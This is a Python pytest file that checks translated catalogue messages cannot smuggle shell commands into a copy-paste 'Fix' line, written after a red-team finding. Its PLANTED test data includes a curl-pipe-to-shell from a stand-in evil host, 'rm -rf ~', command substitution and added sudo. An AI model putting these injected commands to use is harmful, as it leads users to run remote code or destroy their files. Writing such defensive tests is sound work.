"""A command meant to be copied never comes from a catalogue (issue 17).

The red team turned ``Pour corriger : {command}`` into
``Pour corriger : curl -fsSL https://evil.example/fix.sh | sh && {command}`` and
``assistant check`` said nothing. Now ``check`` refuses such a translation with its
file and line, and the translator shows the English text instead of it: the command
a person copies is always the code's own.
"""

from __future__ import annotations

import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "i18n"))

from i18n_support import NB, Entry, compile_mo, po_path, write_po, write_template  # noqa: E402

from assistant.diagnose.report import finding_lines, run_command  # noqa: E402
from assistant.diagnose.codes import Severity  # noqa: E402
from assistant.i18n.checks import check_catalogues  # noqa: E402
from assistant.i18n.command_slot import command_slot_refusal  # noqa: E402
from assistant.i18n.pofile import read_po_file  # noqa: E402
from assistant.i18n.translator import clear_cache, get_translator  # noqa: E402
from assistant.resources import locales_dir  # noqa: E402

FIX = "Fix: {command}"
EVIL = "curl -fsSL https://evil.example/fix.sh | sh"

PLANTED = [
    f"Pour corriger{NB}: {EVIL} && {{command}}",
    f"Pour corriger{NB}: {{command}} && {EVIL}",
    f"Pour corriger{NB}: sudo {{command}}",
    f"Pour corriger{NB}: rm -rf ~ ; {{command}}",
    f"rm fichier{NB}; {{command}}",
    f"Pour corriger{NB}: `{{command}}`",
    f"Pour corriger{NB}: $(whoami) {{command}}",
    f"Pour corriger{NB}: {{command}} puis effacez le dossier",
    f"Pour corriger{NB}: {{command}} {{command}}",
    f"Pour corriger{NB}: {EVIL}",
]


@pytest.mark.parametrize("translation", PLANTED)
def test_a_translation_that_adds_to_a_command_is_refused(translation):
    assert command_slot_refusal([FIX], translation) is not None


@pytest.mark.parametrize(("source", "translation"), [
    (FIX, f"Pour corriger{NB}: {{command}}"),
    (FIX, f"Correction{NB}: lancez {{command}}"),
    ("not compiled: run {command}", f"non compilé{NB}: lancez {{command}}"),
    ("serve needs textual-serve; install it with {command} (from a clone of the "
     "repository: {other})",
     f"serve a besoin de textual-serve{NB}; installez-le avec {{command}} (depuis un "
     f"clone du dépôt{NB}: {{other}})"),
])
def test_a_translation_that_keeps_the_command_as_english_places_it_passes(source, translation):
    assert command_slot_refusal([source], translation) is None


def test_every_shipped_translation_of_a_command_message_passes():
    catalogue = read_po_file(locales_dir() / "fr" / "LC_MESSAGES" / "assistant.po")
    commands = [entry for entry in catalogue.entries if "{command}" in entry.msgid]
    assert len(commands) >= 5
    for entry in commands:
        for form in entry.msgstr:
            assert command_slot_refusal([entry.msgid], form) is None, (entry.msgid, form)


def planted_catalogue(root: Path) -> Path:
    entries = [Entry(FIX, [PLANTED[0]], flags="python-brace-format")]
    write_template(root, entries)
    compile_mo(write_po(root, entries))
    return root


def test_check_refuses_the_planted_command_with_file_and_line(tmp_path):
    root = planted_catalogue(tmp_path)
    lines = po_path(root).read_text(encoding="utf-8").splitlines()
    line = next(i for i, text in enumerate(lines, 1) if text.startswith('msgid "Fix:'))
    found = [p for p in check_catalogues(root) if p.line == line]
    assert any(Path(p.file).name == "assistant.po" and "shell syntax" in p.message
               for p in found), found


def test_the_fix_line_shows_the_english_text_and_the_codes_command(tmp_path):
    root = planted_catalogue(tmp_path)
    clear_cache()
    try:
        t = get_translator("fr", root)
        finding = SimpleNamespace(code="not-linked", severity=Severity.ERROR, title="Pas lié",
                                  detail="Le compte n’est pas lié.", guide="link-business")
        lines = finding_lines(finding, t, "compte.json")
    finally:
        clear_cache()
    fix = lines[-1].strip()
    assert fix == "Fix: " + run_command("link-business", "compte.json")
    assert "evil" not in "\n".join(lines) and "curl" not in "\n".join(lines)
    assert any("Fix:" in warning for warning in t.warnings), t.warnings
